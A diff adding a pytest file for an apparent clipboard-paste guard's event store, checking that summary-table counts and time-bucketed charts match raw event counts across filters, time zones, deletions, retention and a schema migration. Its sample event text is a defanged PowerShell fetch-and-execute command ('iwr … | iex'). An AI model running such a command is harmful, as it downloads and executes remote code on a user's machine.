@@ -1,0 +1,188 @@
+"""Counts and charts from the summary tables: the same answers as counting the events.
+
+Events at odd moments over two weeks; filters with bounds at odd microseconds; buckets of five
+minutes to a week seen from UTC, UTC+2, UTC-5, UTC+5:30 and UTC+13. Every answer is held to a
+count of the events themselves, before and after deletions, retention and a write by another
+program, and for a file of the previous schema version.
+"""
+
+from __future__ import annotations
+
+import random
+import sqlite3
+from collections import Counter
+from datetime import datetime, timedelta
+from pathlib import Path
+
+import pytest
+from sqlite_utils import Database
+
+from app.events import Event
+from app.storage import EventFilter, EventStore, schema
+from app.storage.rows import INSERT_EVENT, event_row
+from tests.app.storage.conftest import T0, Clock, make_event
+
+LEVELS = ("clean", "info", "suspicious", "malicious")
+KINDS = ("clipboard_flagged", "paste_warned", "paste_blocked", "error")
+TARGETS = ("terminal", "run_dialog", None)
+OFFSETS = (timedelta(0), timedelta(hours=2), timedelta(hours=-5), timedelta(hours=5, minutes=30),
+           timedelta(hours=13))  # fmt: skip
+FILTERS = (
+    EventFilter(),
+    EventFilter(levels=frozenset({"malicious", "suspicious"})),
+    EventFilter(kinds=frozenset({"error"}), targets=frozenset({"terminal"})),
+    EventFilter(targets=frozenset({"run_dialog"}), levels=frozenset({"info"})),
+    EventFilter(since=T0 + timedelta(days=2, hours=5, microseconds=17)),
+    EventFilter(since=T0 + timedelta(days=1, minutes=7), until=T0 + timedelta(days=9, hours=23)),
+    EventFilter(until=T0 + timedelta(days=4, seconds=1), kinds=frozenset({"paste_warned"})),
+    EventFilter(since=T0 + timedelta(hours=1, minutes=1), until=T0 + timedelta(hours=3)),
+    EventFilter(levels=frozenset()),
+    EventFilter(targets=frozenset({""})),  # no event has an empty target; none is "no target"
+)
+
+
+def _events(n: int, seed: int) -> list[Event]:
+    rng = random.Random(seed)
+    return [
+        make_event(
+            time=T0 + timedelta(microseconds=rng.randrange(14 * 86_400_000_000)),
+            level=rng.choice(LEVELS),
+            kind=rng.choice(KINDS),
+            target=rng.choice(TARGETS),
+            text=f"iwr hxxps://x[.]test/{rng.randrange(3)}.ps1 | iex # marker-{rng.randrange(3)}",
+        )
+        for _ in range(n)
+    ]
+
+
+def _stored(store: EventStore) -> list[Event]:
+    return list(store.iter_events())
+
+
+def _matches(e: Event, f: EventFilter) -> bool:
+    return (
+        (f.since is None or e.time >= f.since)
+        and (f.until is None or e.time < f.until)
+        and (f.levels is None or e.level in f.levels)
+        and (f.kinds is None or e.kind in f.kinds)
+        and (f.targets is None or e.target in f.targets)
+    )
+
+
+def _expected(events: list[Event], f: EventFilter, bucket: timedelta, offset: timedelta) -> list[
+        tuple[datetime, str, int]]:  # fmt: skip
+    epoch = datetime(1970, 1, 1)
+    totals: Counter[tuple[datetime, str]] = Counter()
+    for e in events:
+        if _matches(e, f):
+            local = e.time.replace(tzinfo=None) + offset
+            totals[(epoch + (local - epoch) // bucket * bucket, e.level)] += 1
+    return sorted((when, level, n) for (when, level), n in totals.items())
+
+
+def _check(store: EventStore, buckets: tuple[timedelta, ...] = (timedelta(days=1),)) -> None:
+    events = _stored(store)
+    for f in FILTERS:
+        assert store.count(f) == sum(1 for e in events if _matches(e, f)), f
+        for offset in OFFSETS:
+            for bucket in buckets:
+                got = store.counts_by_bucket(f, bucket, utc_offset=offset)
+                assert got == _expected(events, f, bucket, offset), (f, offset, bucket)
+
+
+def test_counts_and_charts_are_those_of_the_events(store: EventStore) -> None:
+    for event in _events(600, seed=1):
+        assert store.append(event) is not None
+    _check(store, (timedelta(days=1), timedelta(hours=1), timedelta(minutes=5),
+                   timedelta(days=7), timedelta(hours=6)))  # fmt: skip
+
+
+def test_they_stay_right_through_deletions_retention_and_other_writers(
+    data_dir: Path, clock: Clock
+) -> None:
+    with EventStore.open(data_dir, clock=clock, retention_days=10) as store:
+        for event in _events(400, seed=2):
+            store.append(event)
+        ids = [e.id for e in _stored(store) if e.id is not None]
+        assert store.delete(random.Random(3).sample(ids, 60)) == 60
+        _check(store)
+        # another program writes and deletes behind the guard's back: the triggers count it
+        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
+        for event in _events(30, seed=4):
+            conn.execute(INSERT_EVENT, event_row(event))
+        conn.execute("DELETE FROM events WHERE id IN (SELECT id FROM events LIMIT 5)")
+        conn.close()
+        _check(store)
+        clock.now = T0 + timedelta(days=16)  # the first six days expire
+        assert store.apply_retention() > 0
+        _check(store)
+        rows = store._read(lambda c: c.execute("SELECT count(*) FROM event_days").fetchone())
+        assert rows[0] > 0
+        store.delete_all()
+        assert store.count() == 0
+        assert store._read(
+            lambda c: c.execute(
+                "SELECT (SELECT count(*) FROM event_days) + (SELECT count(*) FROM event_hours)"
+            ).fetchone()[0]
+        ) == 0  # fmt: skip
+
+
+def test_a_file_of_the_previous_version_is_counted_after_the_migration(
+    data_dir: Path, clock: Clock
+) -> None:
+    data_dir.mkdir()
+    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
+    schema.migrate(db, schema.MIGRATIONS[:3])
+    for event in _events(300, seed=5):
+        db.execute(INSERT_EVENT, event_row(event))
+    db.close()
+    with EventStore.open(data_dir, clock=clock) as store:
+        assert store.status["schema_version"] == schema.SCHEMA_VERSION == 4
+        _check(store, (timedelta(days=1), timedelta(hours=1)))
+
+
+@pytest.mark.parametrize("f", FILTERS[:4], ids=str)
+def test_counting_reads_the_summary_not_the_events(data_dir: Path, clock: Clock,
+                                                   f: EventFilter) -> None:  # fmt: skip
+    """Proof the summary answers: change it behind the store's back and the count follows."""
+    with EventStore.open(data_dir, clock=clock) as store:
+        for event in _events(100, seed=6):
+            store.append(event)
+        before = store.count(f)
+        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
+        conn.execute("UPDATE event_days SET n = n + 1000")
+        conn.close()
+        assert store.count(f) >= before + 1000
+
+
+@pytest.mark.parametrize("search", [None, "MARKER-1"], ids=["summary", "search"])
+def test_the_chart_s_bins_and_the_first_event(store: EventStore, search: str | None) -> None:
+    """Bins as the viewer draws them (weeks from a Monday, local days, hours), with and
+    without a free-text search, and the oldest event a chart starts from."""
+    events = _events(500, seed=7)
+    for event in events:
+        store.append(event)
+    stored = _stored(store)
+    for base in FILTERS:
+        f = EventFilter(since=base.since, until=base.until, levels=base.levels,
+                        kinds=base.kinds, targets=base.targets, search=search)  # fmt: skip
+        matching = [
+            e for e in stored
+            if _matches(e, f) and (search is None or search.lower() in (e.text or "").lower())
+        ]  # fmt: skip
+        assert search is None or 0 < len(matching) < len(stored) or not matching
+        assert store.earliest(f) == min((e.time for e in matching), default=None), f
+        for offset in OFFSETS[:4]:
+            for first, width, count in (
+                (datetime(2026, 2, 23), timedelta(days=7), 4),  # Mondays
+                (datetime(2026, 3, 2), timedelta(days=1), 9),
+                (datetime(2026, 3, 4, 5), timedelta(hours=1), 30),
+            ):
+                got = store.counts_in_bins(f, first, width, count, utc_offset=offset)
+                want: Counter[tuple[datetime, str]] = Counter()
+                for e in matching:
+                    local = e.time.replace(tzinfo=None) + offset
+                    i = (local - first) // width
+                    if 0 <= i < count:
+                        want[(first + width * i, e.level)] += 1
+                assert got == sorted((w, lvl, n) for (w, lvl), n in want.items()), (f, offset)
